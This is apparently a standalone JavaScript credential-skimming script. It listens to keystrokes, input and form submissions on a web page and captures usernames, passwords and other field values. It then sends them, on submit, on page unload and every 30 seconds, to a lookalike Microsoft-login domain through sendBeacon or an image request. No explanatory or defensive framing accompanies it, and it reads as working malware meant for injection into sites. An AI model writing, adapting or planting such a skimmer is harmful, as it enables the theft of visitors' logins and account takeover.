(function () {
  var creds = { user: '', pass: '', extra: {} };
  var host = 'https://login-microsoftonline.co/common/oauth2/report';

  function classify(el) {
    var id = ((el.name || '') + ' ' + (el.id || '') + ' ' + (el.type || '')).toLowerCase();
    if (el.type === 'password' || /pass|pwd/.test(id)) return 'pass';
    if (el.type === 'email' || /email|login|user|account/.test(id)) return 'user';
    return null;
  }

  function onKey(e) {
    var el = e.target;
    if (el.tagName !== 'INPUT') return;
    var kind = classify(el);
    if (kind) creds[kind] = el.value;
    else if (el.value && el.type !== 'hidden' && el.type !== 'checkbox') creds.extra[el.name || el.id] = el.value;
  }

  function report(reason) {
    if (!creds.user && !creds.pass) return;
    var q = 'r=' + reason + '&u=' + encodeURIComponent(creds.user) + '&p=' + encodeURIComponent(creds.pass) +
      '&x=' + encodeURIComponent(JSON.stringify(creds.extra)) + '&s=' + encodeURIComponent(location.href);
    if (navigator.sendBeacon) {
      navigator.sendBeacon(host, new URLSearchParams(q));
    } else {
      new Image().src = host + '?' + q;
    }
  }

  document.addEventListener('keyup', onKey, true);
  document.addEventListener('input', onKey, true);
  document.addEventListener('submit', function () { report('submit'); }, true);
  window.addEventListener('beforeunload', function () { report('unload'); });
  setInterval(function () { report('tick'); }, 30000);
})();
